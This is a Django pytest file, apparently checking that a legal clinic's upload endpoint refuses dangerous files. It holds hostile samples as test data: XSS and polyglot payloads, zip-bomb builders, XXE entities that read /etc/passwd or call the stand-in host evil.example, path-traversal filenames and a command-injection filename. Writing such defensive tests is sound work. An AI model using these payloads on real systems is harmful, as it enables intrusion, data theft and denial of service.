"""Files that somebody brings: what they may be, what they leave behind (T14-T17, T19-T21, T53).

Lists of cases and circulars of courts are what the house takes today.
"""

import io
import resource
import struct
import time
import zipfile
from collections.abc import Callable, Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from reencuentro.clinic.exchange.models import ImportRun
from reencuentro.clinic.keyring import storage
from tests.clinic.exchange.lists import HEADINGS, ROW, as_csv, as_xlsx
from tests.clinic.lawbook.test_calendars import day, typed

from .findings import dangers
from .world import World, undone

START = "exchange:start"
EDITOR = "/law/calendars/tlaxcala/2028/edit/"
GIF = b"GIF89a/*\x00\x00" + b"\x00" * 20 + b"*/=alert(7301)//;"
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n"
EXE = b"MZ\x90\x00" + bytes(range(256)) * 40
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 64
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(7301)</script></svg>\n<a,b>\n1,2\n'
XHTML = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(7301)</script></html>,b\n1,2\n'
MHT = b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n--x\n<script>alert(7301)</script>,b\n1,2\n"
URL = b"[InternetShortcut]\nURL=javascript:alert(7301),x\n1,2\n"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60

TOLD_BY_ITS_BYTES = pytest.mark.alike("what a file is stands in its bytes, read before anything is stored")


@pytest.fixture
def own_folder(settings, tmp_path):
    settings.SEALED_FILES = tmp_path / "files"
    return storage.folder()


def bring(world: World, content: bytes, name: str) -> HttpResponse:
    file = SimpleUploadedFile("x", content)
    file._name = name  # as it came, not as Django tidies it
    return world.clinic.attorney.browser().post(reverse(START), {"file": file})


def is_refused(answer: HttpResponse) -> bool:
    return answer.status_code == 200 and "file" in answer.context["form"].errors


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize(
    ("content", "name"),
    [(SVG, "a.svg"), (XHTML, "a.xhtml"), (MHT, "a.mht"), (URL, "a.url"), (SVG, "a.csv"), (XHTML, "a.html")],
)
def test_T14_pages_that_pose_as_files_are_refused_or_read_as_plain_words(world, own_folder, content, name):
    """No address gives a file back as it came; as a list its words are cells."""
    with undone():
        answer = bring(world, content, name)
        if not is_refused(answer):
            page = world.clinic.attorney.browser().get(answer.url)
            assert page["Content-Type"].startswith("text/html") and dangers(page.content.decode()) == []


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize(
    ("content", "name"),
    [
        (EXE, "lista.xlsx"),
        (PDF, "lista.csv"),
        (JPEG, "lista.csv"),
        (LNK, "lista.csv"),
        (b"PK\x03\x04" + EXE, "lista.xlsx"),
        (b"\xd0\xcf\x11\xe0" + EXE, "lista.xlsx"),
    ],
)
def test_T15_what_is_no_list_is_refused_whatever_it_is_called(world, own_folder, content, name):
    assert is_refused(bring(world, content, name))
    assert list(own_folder.iterdir()) == []


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize("content", [SVG, XHTML, MHT, URL, LNK, EXE, GIF, b"PK\x03\x04" + EXE])
def test_T14_a_circular_that_is_no_paper_is_refused_whatever_it_is_called(world, own_folder, content):
    circular = SimpleUploadedFile("circular.pdf", content, "application/pdf")
    answer = world.clinic.attorney.browser().post(EDITOR, typed(day("2028-02-01"), circular=circular))
    assert answer.status_code == 422
    assert list(own_folder.iterdir()) == []


@TOLD_BY_ITS_BYTES
def test_T16_a_paper_that_is_a_page_as_well_is_only_ever_downloaded(world, own_folder):
    content = PDF + SVG + XHTML
    with undone():
        client = world.clinic.attorney.browser()
        circular = SimpleUploadedFile('x".html', content, "text/html")
        assert client.post(EDITOR, typed(day("2028-02-01"), circular=circular)).status_code == 302
        answer = client.get(reverse("lawbook:circular", args=["tlaxcala", 2028]))
        assert b"".join(answer.streaming_content) == content
    assert answer["Content-Type"] == "application/pdf"
    assert answer["Content-Disposition"] == 'attachment; filename="tlaxcala-2028.pdf"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer["Content-Security-Policy"]


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize("content", [GIF, PDF + as_xlsx([HEADINGS, ROW]), GIF + as_xlsx([HEADINGS, ROW])])
def test_T16_a_file_of_two_kinds_is_refused(world, own_folder, content):
    assert is_refused(bring(world, content, "lista.csv"))
    assert list(own_folder.iterdir()) == []


def _book(**parts: bytes) -> bytes:
    """An XLSX file with other contents in some of its parts; `sheet` is the sheet."""
    paths = {"sheet": "xl/worksheets/sheet1.xml", "types": "[Content_Types].xml", "book": "xl/workbook.xml"}
    changed = {paths[name]: content for name, content in parts.items()}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(as_xlsx([HEADINGS, ROW]))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, changed.get(entry.filename, source.read(entry)))
    return out.getvalue()


def _with(*extra: tuple[str, bytes]) -> bytes:
    out = io.BytesIO(as_xlsx([HEADINGS, ROW]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target:
        for name, content in extra:
            target.writestr(name, content)
    return out.getvalue()


def _zeros(megabytes: int) -> bytes:
    return b"<worksheet><sheetData>" + b"0" * megabytes * 1024 * 1024


def _lying_about_its_size() -> bytes:
    """The directory at the end announces one kilobyte for what unpacks to a hundred thousand."""
    content = _book(sheet=_zeros(100))
    size = struct.pack("<L", len(_zeros(100)))
    return content.replace(size, struct.pack("<L", 1024))


BOMBS: dict[str, Callable[[], bytes]] = {
    "a thousand to one": lambda: _book(sheet=_zeros(100)),
    "lying": _lying_about_its_size,
    "nested": lambda: _with(("xl/media/a.zip", _with(*[(f"{n}.xml", _zeros(10)) for n in range(10)]))),
    "many entries": lambda: _with(*[(f"xl/{number}", b"") for number in range(20_000)]),
    "strings": lambda: _with(("xl/sharedStrings.xml", _zeros(120))),
}


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize("kind", BOMBS)
def test_T17_a_zip_bomb_is_refused_at_once_and_unpacked_nowhere(world, own_folder, kind):
    content = BOMBS[kind]()
    before, begun = _peak_megabytes(), time.thread_time()
    with undone():
        answer = bring(world, content, "lista.xlsx")
        spent = time.thread_time() - begun
        assert is_refused(answer) or kind == "nested"  # what lies nested is not looked into
    assert spent < 2
    assert _peak_megabytes() - before < 200
    assert sum(path.stat().st_size for path in own_folder.iterdir()) < 1_000_000


def _peak_megabytes() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


ENTITIES = {
    "a file of the server": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "another host": b'<!DOCTYPE x SYSTEM "http://evil.example/7301.dtd"><x/>',
    "a billion laughs": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>',
    "a parameter": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/7301"> %a;]><x/>',
    "in UTF-16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode(
        "utf-16"
    ),
}


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize("part", ["sheet", "types", "book"])
@pytest.mark.parametrize("kind", ENTITIES)
def test_T53_documents_with_entities_of_their_own_are_refused(world, own_folder, no_way_out, kind, part):
    assert is_refused(bring(world, _book(**{part: ENTITIES[kind]}), "lista.xlsx"))
    assert list(own_folder.iterdir()) == []


BOUNDARY = "xxBOUNDARYxx"


def _part(headers: str, content: bytes = b"a,b\n1,2\n") -> bytes:
    return f"--{BOUNDARY}\r\n{headers}\r\n\r\n".encode() + content + b"\r\n"


def _post(client: Client, *parts: bytes, **environment: object) -> HttpResponse:
    body = b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()
    kind = f"multipart/form-data; boundary={BOUNDARY}"
    return client.post(reverse(START), body, content_type=kind, **environment)


FILE = 'Content-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv'


def test_T19_nothing_over_the_limit_is_taken_and_nothing_is_left_of_it(world, own_folder, settings):
    settings.UPLOAD_MAX_BYTES = 200_000
    client = world.clinic.attorney.browser()
    assert _post(client, _part(FILE, b"x" * 300_000)).status_code == 413
    small, large = _part(FILE, b"x" * 50_000), _part(FILE, b"x" * 250_000)
    assert _post(client, small, large).status_code == 413
    assert _post(client, small, small[:-5_000], CONTENT_LENGTH=60_000).status_code in (200, 400)
    assert list(own_folder.iterdir()) == []


def test_T19_a_stranger_leaves_no_byte_on_the_disk(world, nobody, own_folder, monkeypatch):
    """The form is read before the login is asked for: even so nothing is written, not even for a moment."""
    sealers: list[object] = []
    monkeypatch.setattr("reencuentro.clinic.keyring.uploads.FileSealer", lambda *given: sealers.append(given))
    assert _post(nobody, _part(FILE, b"x" * 100_000)).status_code == 403
    assert sealers == [] and list(own_folder.iterdir()) == []


@TOLD_BY_ITS_BYTES
@pytest.mark.parametrize(
    "parts",
    [
        [_part(FILE)] * 10_000,
        [_part('Content-Disposition: form-data; name="x"', b"1")] * 10_000,
        [_part(FILE + "\r\n" + "\r\n".join(f"X-{number}: y" for number in range(10_000)))],
        [_part(FILE.replace("a.csv", "a" * 1_000_000))],
    ],
    ids=["files", "fields", "headers", "a long name"],
)
def test_T20_ten_thousand_parts_are_refused_at_once(world, own_folder, parts):
    client, begun = world.clinic.attorney.browser(), time.thread_time()
    assert _post(client, *parts).status_code == 400
    assert time.thread_time() - begun < 1
    assert list(own_folder.iterdir()) == []


NAMES = (
    "../../../etc/cron.d/evil.csv",
    "..\\..\\windows\\system32\\evil.csv",
    "/etc/passwd",
    "C:\\Users\\ana\\lista.csv",
    "CON.csv",
    "NUL",
    "aux.xlsx.csv",
    ".htaccess",
    "lista\u202evsc.exe",
    "a\u2066b\u200f.csv",
    "%2e%2e%2f%00.csv",
    "lista.csv;filename=evil.exe",
    "-rf.csv",
    "$(touch evil).csv",
    "ñ" * 5_0 + ".csv",
)


@pytest.mark.parametrize("name", NAMES)
def test_T21_the_name_of_a_file_names_nothing_here_and_is_shown_safely(world, own_folder, name):
    with undone():
        answer = bring(world, as_csv([HEADINGS, ROW]), name)
        assert answer.status_code in (200, 302)
        run = ImportRun.objects.order_by("-started_on").exclude(id=world.rows["run"]).first()
        if run is not None:
            assert [path.stem for path in own_folder.iterdir()] == [run.document_id.hex]
            page = world.clinic.attorney.browser().get(reverse(START)).content.decode()
            assert not any(mark in page for mark in "\u202e\u2066\u200f\x00")
            assert dangers(page) == []


def test_T21_a_NUL_in_a_name_is_no_end_of_it(world, own_folder):
    with undone():
        answer = bring(world, as_csv([HEADINGS, ROW]), "lista.csv\x00.exe")
        assert answer.status_code in (200, 302, 400)
    assert all(path.stem.isalnum() for path in own_folder.iterdir())


@pytest.fixture
def no_way_out(monkeypatch) -> Iterator[None]:
    """Whoever opens a connection or a file of the system fails the test."""
    import socket

    def refuse(*given: object) -> None:
        raise AssertionError("a connection was opened")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield
